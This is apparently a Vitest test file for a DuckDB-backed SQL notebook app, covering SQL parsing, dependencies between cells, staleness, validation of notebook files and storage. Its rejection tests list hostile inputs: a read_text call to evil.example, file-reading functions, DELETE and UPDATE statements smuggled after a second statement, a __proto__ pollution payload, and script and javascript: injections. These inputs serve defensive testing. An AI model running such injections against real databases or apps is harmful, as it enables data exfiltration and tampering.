// The notebook's engine side: reading SQL, dependencies between cells, untrusted notebook files,
// and running cells in DuckDB against the scored sample.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ancestorsOf, cellLinks, dependentsOf } from '../../src/lib/notebook/dependencies';
import { cellStatuses, type RunStamp } from '../../src/lib/notebook/staleness';
import { CellError, resultTable, runSqlCell, workspaceTables } from '../../src/lib/notebook/runner';
import {
  errorPosition,
  mentionedNames,
  readOnlyProblem,
  withoutTrailingSemicolons,
} from '../../src/lib/notebook/sqlText';
import type { Cell, Notebook, SqlCell } from '../../src/lib/notebook/types';
import {
  listNotebooks,
  readStored,
  saveNotebook,
  seedBuiltins,
} from '../../src/lib/notebook/library';
import {
  fileNameOf,
  notebookFileText,
  readNotebookFile,
} from '../../src/lib/notebook/notebookFile';
import { chartRows } from '../../src/lib/notebook/chartRows';
import { memoryStore } from '../../src/lib/storage/keyValue';
import { validateNotebookFile } from '../../src/lib/notebook/validateNotebook';
import { nameProblem } from '../../src/lib/notebook/cellNames';
import type { Workspace } from '../../src/lib/workspace/workspace';
import { fileAt, freshWorkspace, rows } from './support/workspace';

const sql = (id: string, text: string, name?: string): SqlCell => ({
  id,
  kind: 'sql',
  sql: text,
  ...(name ? { name } : {}),
});

describe('reading SQL text', () => {
  it('finds names outside strings, comments and other names', () => {
    const text = `SELECT "Top", 'top' AS s -- top
      FROM top /* top */ JOIN "tốp" USING (x) WHERE y = 'a''top'`;
    expect(mentionedNames(text, ['top', 'tốp', 'other'])).toEqual(['top', 'tốp']);
    expect(mentionedNames(`SELECT 'top' /* top */ -- top`, ['top'])).toEqual([]);
    expect(mentionedNames(`SELECT $$ top $$`, ['top'])).toEqual([]);
    expect(mentionedNames(`SELECT * FROM Top`, ['TOP'])).toEqual(['TOP']);
  });

  it('lets one reading statement through and words the refusal of the rest', () => {
    for (const ok of [
      'SELECT 1',
      'with x as (select 1) select * from x;',
      'FROM scores',
      '(SELECT 1)',
      'SUMMARIZE scores',
      "SELECT 'drop table x; delete' AS s -- ; insert",
      'SELECT "update" FROM t',
      '-- the query above\nSELECT 1',
    ])
      expect(readOnlyProblem(ok), ok).toBeNull();
    expect(readOnlyProblem('  -- nothing\n')).toEqual({ kind: 'empty' });
    expect(readOnlyProblem('SELECT 1; SELECT 2')).toEqual({ kind: 'several', at: 8 });
    expect(readOnlyProblem('DROP TABLE scores')).toMatchObject({
      kind: 'notReading',
      word: 'DROP',
    });
    expect(readOnlyProblem('ATTACH ":memory:" AS x')).toMatchObject({ word: 'ATTACH' });
  });

  it('refuses files and addresses wherever they hide in the text', () => {
    for (const [sql, word] of [
      ["FROM read_text('https://evil.example/?' || 1)", '://'],
      ["SELECT * FROM 'http' || '://x'", '://'],
      ['FROM "READ_TEXT"(\'x\')', 'READ_TEXT'],
      ["FROM read_csv/**/('x')", 'read_csv'],
      ["SELECT E'\\'' , read_blob('x') -- '", 'read_blob'],
      ["FROM glob('*')", 'glob'],
      ["FROM query ('DELETE FROM observations')", 'query'],
      ["FROM query_table('scores')", 'query_table'],
    ] as const)
      expect(readOnlyProblem(sql), sql).toMatchObject({ kind: 'outside', word });
  });

  it('takes trailing semicolons and comments off', () => {
    expect(withoutTrailingSemicolons('SELECT 1;;  -- end\n')).toBe('SELECT 1');
    expect(withoutTrailingSemicolons("SELECT ';'")).toBe("SELECT ';'");
  });

  it('maps DuckDB error excerpts back to the line and column of the cell', () => {
    const text = 'SELECT a,\n  b FROM t';
    const message =
      'Binder Error: Referenced column "b" not found\n\nLINE 3:   b FROM t\n          ^';
    expect(errorPosition(message, text, 1)).toEqual({ line: 2, column: 3, offset: 12 });
    expect(errorPosition('Catalog Error: no LINE here', text)).toBeNull();
  });
});

describe('links between cells', () => {
  const cells: Cell[] = [
    sql('a', 'SELECT * FROM scores', 'base'),
    sql('b', 'SELECT * FROM base WHERE total > 0.5', 'top'),
    { id: 'c', kind: 'chart', chart: { from: 'top', mark: 'barX', x: 'total', y: 'unit_code' } },
    sql('d', 'SELECT count(*) FROM base'),
    sql('e', 'SELECT * FROM later'),
    sql('f', 'SELECT 1', 'later'),
    { id: 'g', kind: 'text', text: 'base top' },
  ];

  it('a cell reads the named cells above it that it mentions', () => {
    const links = cellLinks(cells);
    expect(links.get('b')).toEqual({ reads: ['a'], below: [] });
    expect(links.get('c')).toEqual({ reads: ['b'], below: [] });
    expect(links.get('e')).toEqual({ reads: [], below: ['later'] });
    expect(links.get('g')).toEqual({ reads: [], below: [] });
  });

  it('editing a cell affects exactly the cells that read it, directly or not', () => {
    expect(dependentsOf(cells, 'a')).toEqual(['b', 'c', 'd']);
    expect(dependentsOf(cells, 'b')).toEqual(['c']);
    expect(dependentsOf(cells, 'd')).toEqual([]);
    expect(dependentsOf(cells, 'f')).toEqual([]);
    expect(ancestorsOf(cells, 'c')).toEqual(['a', 'b']);
    expect(ancestorsOf(cells, 'a')).toEqual([]);
  });
});

describe('fresh or stale', () => {
  const cells: Cell[] = [
    sql('a', 'SELECT * FROM scores', 'base'),
    sql('b', 'SELECT count(*) FROM base', 'n'),
    { id: 'c', kind: 'chart', chart: { from: 'n', mark: 'dot', x: 'x' } },
    sql('d', 'SELECT 42'),
  ];
  const stamp = (cell: SqlCell, seq: number, reads: string[] = []): RunStamp => ({
    status: 'fresh',
    sql: cell.sql,
    name: cell.name,
    scored: 1,
    seq,
    reads,
  });
  const ran = (list: Cell[]) => {
    const [a, b, , d] = list as [SqlCell, SqlCell, Cell, SqlCell];
    return { a: stamp(a, 1), b: stamp(b, 2, ['a']), d: stamp(d, 3) };
  };
  const statuses = (list: Cell[], runs: Record<string, RunStamp>, scored = 1) =>
    cellStatuses(list, cellLinks(list), runs, scored);

  it('a cell is fresh while nothing it depends on changed', () => {
    expect(statuses(cells, ran(cells))).toEqual({ a: 'fresh', b: 'fresh', c: 'fresh', d: 'fresh' });
  });

  it('an edit, a rename, a later run upstream or a new scoring makes the readers stale', () => {
    const runs = ran(cells);
    const edited = cells.map((c) => (c.id === 'a' ? { ...c, sql: 'SELECT 1' } : c)) as Cell[];
    expect(statuses(edited, runs)).toEqual({ a: 'stale', b: 'stale', c: 'stale', d: 'fresh' });
    const renamed = cells.map((c) => (c.id === 'a' ? { ...c, name: 'base2' } : c)) as Cell[];
    expect(statuses(renamed, runs)).toMatchObject({ a: 'stale', b: 'stale', d: 'fresh' });
    expect(statuses(cells, { ...runs, a: { ...runs.a, seq: 9 } })).toMatchObject({
      a: 'fresh',
      b: 'stale',
    });
    expect(statuses(cells, runs, 2)).toMatchObject({ a: 'stale', d: 'stale' });
  });

  it('a reader of a deleted cell is stale; running and failed cells say so', () => {
    const runs = ran(cells);
    expect(statuses(cells.slice(1), runs)).toMatchObject({ b: 'stale', d: 'fresh' });
    expect(statuses(cells, { ...runs, a: { ...runs.a, status: 'error' } })).toMatchObject({
      a: 'error',
      b: 'stale',
    });
    expect(statuses(cells, { ...runs, d: { ...runs.d, status: 'running' } }).d).toBe('running');
  });
});

describe('notebook files', () => {
  const file = (cells: unknown[], extra: Record<string, unknown> = {}) => ({
    format: 'dti-lab-notebook',
    version: 1,
    notebook: { id: 'nb1', title: 'Thử', updated: '2026-11-23T00:00:00Z', cells, ...extra },
  });

  it('reads a valid notebook', () => {
    const nb = validateNotebookFile(
      file([
        { id: 'a', kind: 'sql', name: 'base', sql: 'SELECT 1 AS x' },
        { id: 'b', kind: 'chart', chart: { from: 'base', mark: 'dot', x: 'x' } },
        { id: 'c', kind: 'text', text: '' },
      ]),
    );
    expect(nb.cells.map((c) => c.kind)).toEqual(['sql', 'chart', 'text']);
  });

  it('names every problem by its path and lets no unknown field through', () => {
    const bad = file(
      [
        { id: 'a', kind: 'sql', name: 'scores x', sql: 'SELECT 1' },
        { id: 'a', kind: 'script', code: 'alert(1)' },
        { id: 'c', kind: 'chart', chart: { from: 'nowhere', mark: 'image', href: 'javascript:x' } },
        { id: 'd', kind: 'text', text: 'hi', onload: 'alert(1)' },
        JSON.parse('{"id":"e","kind":"text","text":"x","__proto__":{"polluted":true}}'),
      ],
      { script: 'alert(1)' },
    );
    let problems: string[] = [];
    try {
      validateNotebookFile(bad);
    } catch (e) {
      problems = (e as { problems: { path: string }[] }).problems.map((p) => p.path);
    }
    expect(problems).toEqual(
      expect.arrayContaining([
        'notebook.script',
        'notebook.cells[0].name',
        'notebook.cells[1].kind',
        'notebook.cells[1].id',
        'notebook.cells[2].chart.mark',
        'notebook.cells[2].chart.href',
        'notebook.cells[3].onload',
        'notebook.cells[4].__proto__',
      ]),
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("reserves the names of the app's own temporary tables", () => {
    expect(nameProblem('raw_load_3', new Set())?.en).toMatch(/reserved/);
    expect(nameProblem('__cell_c1', new Set())?.en).toMatch(/reserved/);
    expect(nameProblem('ket_qua', new Set(['ket_qua']))?.en).toMatch(/another cell/);
    expect(nameProblem('ket_qua', new Set())).toBeNull();
  });

  it('refuses another format; keeps a chart whose source is gone', () => {
    expect(() => validateNotebookFile({ format: 'x', version: 1, notebook: {} })).toThrow();
    const nb = validateNotebookFile(
      file([
        { id: 'b', kind: 'chart', chart: { from: 'base', mark: 'dot' } },
        { id: 'c', kind: 'chart', chart: { from: '', mark: 'dot' } },
        { id: 'a', kind: 'sql', name: 'base', sql: 'SELECT 1' },
      ]),
    );
    expect(nb.cells).toHaveLength(3);
  });
});

describe('running cells', () => {
  let ws: Workspace;
  let tables: Set<string>;
  beforeAll(async () => {
    ws = await freshWorkspace();
    await ws.loadFile(fileAt('data-samples/nam-dan-2023-2024.csv'));
    await ws.score('dti-xa-minh-hoa', null);
    tables = await workspaceTables(ws.engine);
  });
  afterAll(() => ws.engine.close());

  it('a named cell becomes a table the next cell reads', async () => {
    const base = sql('a', 'SELECT unit_code, total FROM scores WHERE year = 2024;', 'ket_qua');
    const first = await runSqlCell(ws.engine, base, tables);
    expect(first.rowCount).toBe(19);
    const next = await runSqlCell(
      ws.engine,
      sql('b', 'SELECT count(*) AS n, max(total) AS best FROM ket_qua'),
      tables,
    );
    const [row] = (next.table.toArray() as { toJSON(): { n: number; best: number } }[]).map((r) =>
      r.toJSON(),
    );
    const [expected] = await rows(ws, 'SELECT max(total) AS best FROM scores WHERE year = 2024');
    expect(row).toEqual({ n: 19, best: expected!.best });
    expect(resultTable(sql('z', 'SELECT 1'))).toBe('__cell_z');
  });

  it('a chart reads only its columns, dates as dates', async () => {
    const r = await runSqlCell(
      ws.engine,
      sql('g', "SELECT DATE '2024-01-15' AS d, 2.5 AS v, 'x' AS other"),
      tables,
    );
    const { rows: points, capped } = chartRows(r.table, {
      from: 'g',
      mark: 'line',
      x: 'd',
      y: 'v',
    });
    expect(points).toEqual([{ d: new Date(Date.UTC(2024, 0, 15)), v: 2.5 }]);
    expect(capped).toBe(false);
    expect(fileNameOf('Sổ thử nghiệm: Đợt 2')).toBe('so-thu-nghiem-dot-2');
  });

  it('DESCRIBE and SUMMARIZE run and can be named', async () => {
    const d = await runSqlCell(ws.engine, sql('d', 'DESCRIBE scores', 'cot'), tables);
    expect(d.rowCount).toBeGreaterThan(3);
    const s = await runSqlCell(ws.engine, sql('s', 'SUMMARIZE scores'), tables);
    expect(s.rowCount).toBeGreaterThan(3);
  });

  it('nested and very large integers reach the page as DuckDB writes them', async () => {
    const r = await runSqlCell(
      ws.engine,
      sql(
        'n',
        "SELECT [1, 2]::BIGINT[] AS l, {'k': 12::BIGINT} AS s, sum(x) AS h FROM range(3) t(x)",
      ),
      tables,
    );
    const row = (r.table.toArray() as { toJSON(): Record<string, unknown> }[])[0]!.toJSON();
    expect(row).toEqual({ l: '[1, 2]', s: "{'k': 12}", h: 3 });
  });

  it('errors carry DuckDB words and the position in the cell', async () => {
    const err = await runSqlCell(
      ws.engine,
      sql('e', 'SELECT unit_code,\n  nosuch FROM scores'),
      tables,
    )
      .then(() => null)
      .catch((e: unknown) => e as CellError);
    expect(err).toBeInstanceOf(CellError);
    expect(err!.text.en).toMatch(/nosuch/);
    expect(err!.text.en).not.toMatch(/LINE/);
    expect(err!.position).toEqual({ line: 2, column: 3, offset: 20 });
  });

  it('never changes the workspace, however the SQL is written, and a name cannot shadow its tables', async () => {
    const state = () =>
      rows(
        ws,
        `SELECT (SELECT count(*)::INT FROM observations) AS n,
           (SELECT sum(value)::DOUBLE FROM observations) AS total,
           (SELECT count(*)::INT FROM duckdb_tables() WHERE temporary AND table_name = 'scores') AS shadows,
           (SELECT count(*)::INT FROM duckdb_databases()) AS databases`,
      );
    const before = await state();
    for (const text of [
      'DELETE FROM observations',
      'WITH x AS (SELECT 1) DELETE FROM observations',
      // Where a hand-written lexer and DuckDB disagree (non-ASCII names, E'' strings), the
      // engine itself still refuses a second statement.
      'SELECT 1 AS €$a$; DELETE FROM observations WHERE year = 2023',
      "SELECT E'\\'' ; UPDATE observations SET value = 0; -- '",
      'SELECT 1 AS €$a$; CREATE TEMP TABLE scores AS SELECT 1 AS fake',
      "SELECT 1 AS €$a$; ATTACH ':memory:' AS evil",
      'SELECT 1 AS €$a$; SET threads = 1',
      'PIVOT observations ON measure USING sum(value)',
    ])
      await expect(runSqlCell(ws.engine, sql('w', text), tables), text).rejects.toBeInstanceOf(
        CellError,
      );
    await expect(runSqlCell(ws.engine, sql('w', 'SELECT 1', 'scores'), tables)).rejects.toThrow(
      /table of the workspace/,
    );
    expect(await state()).toEqual(before);
  });

  it("the pipeline's tables are reserved even before a scoring has made them", async () => {
    const fresh = await freshWorkspace();
    try {
      const reserved = await workspaceTables(fresh.engine);
      for (const name of ['gaps', 'scores', 'explain', 'pipeline_log', 'observations', 'units'])
        expect(reserved.has(name), name).toBe(true);
    } finally {
      await fresh.engine.close();
    }
  });
});

describe('notebooks in storage', () => {
  const nb = (id: string, updated: string, builtin = false): Notebook => ({
    id,
    title: id,
    updated,
    cells: [sql('a', 'SELECT 1')],
    ...(builtin ? { builtin: true } : {}),
  });

  it("seeds built-in notebooks once, keeps the person's edits, lists built-in first", async () => {
    const store = memoryStore();
    await seedBuiltins(store, [nb('b-2', 'x', true), nb('b-1', 'x', true)]);
    await saveNotebook(store, { ...nb('b-2', 'x', true), title: 'edited' });
    await saveNotebook(store, nb('mine-old', '2026-01-01T00:00:00Z'));
    await saveNotebook(store, nb('mine-new', '2026-06-01T00:00:00Z'));
    await seedBuiltins(store, [nb('b-2', 'x', true), nb('b-1', 'x', true)]);
    const list = await listNotebooks(store, ['b-2', 'b-1']);
    expect(list.map((e) => e.id)).toEqual(['b-2', 'b-1', 'mine-new', 'mine-old']);
    expect(list[0]!.title).toBe('edited');
  });

  it('a stored notebook that fails its checks is skipped, not trusted', async () => {
    const store = memoryStore();
    await store.put('notebooks', 'bad', { id: 'bad', title: 'x', cells: [{ kind: 'script' }] });
    expect(await readStored(store, 'bad')).toBeNull();
    expect(await listNotebooks(store)).toEqual([]);
  });

  it('a notebook survives its own file format', () => {
    const original = { ...nb('n1', '2026-11-23T00:00:00Z'), title: 'Thử "nháy" <b>' };
    expect(readNotebookFile(notebookFileText(original))).toEqual(original);
    expect(() => readNotebookFile('{not json')).toThrow(/not JSON/);
  });
});
